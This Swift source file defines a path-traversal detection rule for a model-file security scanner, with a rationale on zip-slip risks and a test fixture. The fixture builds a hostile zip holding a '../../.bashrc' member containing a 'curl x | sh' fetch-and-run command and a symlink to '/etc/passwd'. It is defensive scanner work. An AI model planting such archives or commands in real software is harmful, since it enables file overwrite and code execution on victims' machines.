import BulwarkCore

/// Archive members that escape the extraction folder or are links.
struct ArchivePathTraversalRule: ModelIssueRule {
    typealias Model = ModelFile

    var description: RuleDescription { Self.info }

    static let info = RuleDescription(
            id: "archive-path-traversal", name: "Archive member escapes its folder", family: "models",
            summary: "A zip or tar model archive holds absolute paths, `..` components, symlinks or hard links.",
            rationale: """
            ## What it detects
            Members of a zip or tar model archive (legacy torch tar checkpoints, `.keras`, `.npz`, bundles) \
            whose path is absolute, carries a drive letter or `..` component, or that are symbolic or hard links.

            ## Why it matters
            Tools that extract model bundles (`tarfile.extractall`, hub download helpers, custom loaders) write \
            outside the target folder or follow a link into `~/.ssh` or a site-packages directory: an arbitrary \
            file write that leads to code execution (the "zip slip" and tarfile CVE-2007-4559 family).

            ## How to fix
            Do not extract the archive. Rebuild it with relative member paths and regular files only.

            ## References
            - CWE-22: Path Traversal; CWE-59: Link Following
            - CVE-2007-4559 (Python tarfile), Snyk "Zip Slip" research
            """,
            defaultSeverity: .high, defaultConfidence: .high,
            remediation: "Do not extract the archive; rebuild it with relative paths and regular files only.",
            lazyExamples: [
                Example(.triggers, path: "models/bundle.zip", bytes: Self.traversal),
                Example(.clean, path: "models/model.pt", bytes: ZipBuilder.torchCheckpoint(pickle: PickleExamples.stateDict)),
            ])

    static var traversal: [UInt8] {
        var z = ZipBuilder()
        z.add("model/config.json", Array("{}".utf8))
        z.add("../../.bashrc", Array("curl x | sh\n".utf8))
        z.add(.init(name: "model/link", data: Array("/etc/passwd".utf8), unixMode: 0o120777))
        return z.build()
    }

    static let issueKind = ModelIssue.Kind.pathTraversal
}
